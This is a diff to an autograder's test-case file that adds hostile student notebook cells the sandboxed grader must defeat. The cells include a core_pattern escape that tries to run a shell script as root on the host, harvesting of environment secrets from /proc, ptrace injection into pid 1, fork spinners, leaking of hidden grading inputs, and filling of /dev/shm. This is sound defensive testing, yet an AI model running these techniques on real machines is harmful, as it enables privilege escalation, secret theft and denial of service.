@@ -4,11 +4,17 @@ Each case is a base notebook of exercise 9, the recap quiz ("solved": the soluti
 student copy) with code cells added, and what the grader must make of it. The cheats are
 the ones an instructor met with the old grader (issue 15): forged passes inside the
 learner's interpreter, tampering with files and processes outside it, a hang, a memory hog.
-In the cells, the placeholders ROOT, SUBMISSIONS, OUT and CANARY are replaced by host
-paths (the repository, the folder of submissions, the CSV, a file no sandbox may create).
+In the cells, the placeholders ROOT, SUBMISSIONS, OUT, CANARY and ESCAPE are replaced by host
+paths (the repository, the folder of submissions, the CSV, a file no sandbox may create, and the
+file a command run on the host by the core_pattern attack would create).
+The attacks of issue 24 (a hostile student trying for root on the instructor's machine, the grader's
+environment, the hidden inputs, the batch itself) are the cases whose name says which row of its
+table they are (`cheat_a_...`, `cheat_b_...`); the attacks on the folder itself (FIFOs, links,
+names) are made by the test, not here.
 
 `expect`: "full" (every question), "zero" (every question 0) or a number of points;
-`status`: the CSV status; `warning`/`reason`: a piece of text the row must hold.
+`status`: the CSV status; `warning`/`reason`: a piece of text the row must hold; `absent`: a piece of
+text the whole CSV must not hold.
 """
 
 # Junk answers that a cheat hopes to get accepted: plausible types, wrong values.
@@ -46,7 +52,7 @@ CASES = [
     dict(name="careless_blank", base="blank", cells=[], expect="zero"),
     dict(name="careless_raising", base="solved",
          cells=["def longest_context(*args):\n    raise ValueError('not done yet')"], expect=5,
-         reason="ValueError: not done yet"),
+         reason="q6 (longest_context): raised ValueError", absent="not done yet"),
     dict(name="careless_wrong_type", base="solved",
          cells=["def requests_that_fit(memory_gib, weights_gib, cache_gib_per_request):\n    return 'sixteen'"],
          expect=5, reason="q5 (requests_that_fit)"),
@@ -293,4 +299,127 @@ for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 8888)):
     except OSError:
         pass
 '''], expect="zero"),
+
+    # ---- issue 24: root on the host, the grader's environment, the hidden inputs, the limits
+    dict(name="cheat_a_core_pattern", base="blank", cells=[JUNK, '''
+import os
+with open("/tmp/p.sh", "w") as f:
+    f.write("#!/bin/sh\\nid > ESCAPE\\nhostname >> ESCAPE\\n")
+os.chmod("/tmp/p.sh", 0o755)
+try:
+    with open("/proc/sys/kernel/core_pattern", "w") as f:
+        f.write("|/bin/sh /proc/%P/root/tmp/p.sh")
+except OSError:
+    pass
+for _ in range(3):
+    if os.fork() == 0:
+        os.abort()
+    os.wait()
+'''], expect="zero"),
+    dict(name="cheat_b_read_environ", base="blank", cells=['''
+import glob, os
+OURS = ("PATH=", "HOME=", "TMPDIR=", "MPL", "PYTHON", "OMP_", "MKL_", "OPENBLAS_", "LANG=")
+found = []
+for path in ["/proc/1/environ", *glob.glob("/proc/*/environ")]:
+    try:
+        found += open(path, "rb").read().decode(errors="replace").split("\\0")
+    except OSError:
+        pass
+found += [f"{k}={v}" for k, v in os.environ.items()]
+LEAK = " ".join(sorted({v for v in found if v and not v.startswith(OURS)}))  # what the sandbox did not set
+
+def gpt2_parameters(*a): raise ValueError(LEAK)
+def embedding_share(*a): return LEAK
+def crossover_length(*a): return {LEAK: 1.0}
+def kv_cache_gib(*a): return [LEAK]
+def requests_that_fit(*a): raise RuntimeError(LEAK)
+def longest_context(*a): return LEAK
+''', "raise RuntimeError(LEAK)"], expect="zero"),
+    dict(name="cheat_b_environ_on_stderr", base="blank", cells=['''
+import os, sys
+leak = open("/proc/1/environ", "rb").read() + b" " + repr(dict(os.environ)).encode()
+os.write(2, leak.replace(b"\\0", b" ") + b"\\n")
+os._exit(3)
+'''], expect="zero", status="error"),
+    dict(name="cheat_c_ptrace_and_spinners", base="blank", at=1, cells=['''
+import ctypes, os, platform, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in names.split()]
+def clear_pdeathsig(pid):
+    if libc.ptrace(16, pid, None, None) != 0:
+        return f"attach: errno {ctypes.get_errno()}"
+    os.waitpid(pid, 0x40000000)  # __WALL
+    regs = Regs()
+    libc.ptrace(12, pid, None, ctypes.byref(regs))
+    saved = Regs.from_buffer_copy(regs)
+    word = libc.ptrace(1, pid, ctypes.c_void_p(regs.rip), None) & 0xFFFFFFFFFFFFFFFF
+    libc.ptrace(4, pid, ctypes.c_void_p(regs.rip), ctypes.c_void_p((word & ~0xFFFF) | 0x050F))
+    regs.rax, regs.rdi, regs.rsi, regs.orig_rax = 157, 1, 0, 0xFFFFFFFFFFFFFFFF
+    libc.ptrace(13, pid, None, ctypes.byref(regs))
+    libc.ptrace(9, pid, None, None)
+    os.waitpid(pid, 0x40000000)
+    libc.ptrace(12, pid, None, ctypes.byref(regs))
+    result = regs.rax
+    libc.ptrace(4, pid, ctypes.c_void_p(saved.rip), ctypes.c_void_p(word))
+    libc.ptrace(13, pid, None, ctypes.byref(saved))
+    libc.ptrace(17, pid, None, None)
+    return f"prctl returned {result}"
+
+if platform.machine() == "x86_64":  # ptrace pid 1 and clear its parent-death signal, as in issue 24
+    clear_pdeathsig(1)
+for _ in range(100):
+    try:
+        if os.fork() == 0:
+            os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do :; done # attack-suite-spinner-marker"])
+    except OSError:
+        break
+while True:
+    pass
+'''], expect="zero", status="timeout"),
+    dict(name="attack_e1_huge_assignment_name", base="solved", cells=[], assignment_name="x" * 20_000_000,
+         expect="full", warning="the notebook says it is"),
+    dict(name="attack_e2_echo_hidden_inputs", base="solved", cells=['''
+def longest_context(*args):
+    raise ValueError("LEAKED-ARGS " + repr(args))
+
+def requests_that_fit(*args):
+    return 987654.25
+''', '''raise RuntimeError("LEAKED-PROBES " + open("/grading/probes.py").read()[:5000])'''], expect=4,
+         reason="q6 (longest_context): raised ValueError", absent="LEAKED"),
+    dict(name="attack_e2_answer_echoes_inputs", base="solved", cells=['''
+def requests_that_fit(memory_gib, weights_gib, cache_gib_per_request):
+    return 987_000_000 + int(memory_gib)  # the reason must not show it
+'''], expect=5, reason="q5 (requests_that_fit)", absent="987"),
+    dict(name="attack_g_fill_root_and_shm", base="solved", cells=['''
+wrote = []
+for path in ("/x", "/dev/x", "/usr/x", "/grading/x", "/proc/sys/kernel/core_pattern"):
+    try:
+        with open(path, "w") as f:
+            f.write("x")
+        wrote.append(path)
+    except OSError:
+        pass
+if wrote:  # a place outside /tmp and /dev/shm was writable: lose a point
+    def longest_context(*a):
+        return -1
+for i in range(8):  # 8 files of 40 MiB (each under the 64 MiB a file may have) into a /dev/shm of 64 MiB
+    with open(f"/dev/shm/fill{i}", "wb") as f:
+        for _ in range(40):
+            f.write(b"x" * 2**20)
+'''], expect="full", warning="raised OSError (No space left on device)"),
+    dict(name="cheat_8_overflowing_numbers", base="blank", cells=[JUNK, '''
+import json, os
+lines = "".join(json.dumps({"probe": i, "question": "q1", "answer": {"float": 10**400}}) + "\\n"
+                for i in range(100)) + '{"done": true}\\n'
+for fd in range(0, 64):
+    try:
+        os.write(fd, lines.encode())
+    except OSError:
+        pass
+os._exit(0)
+'''], expect="zero", status="graded", reason="cannot read"),
 ]
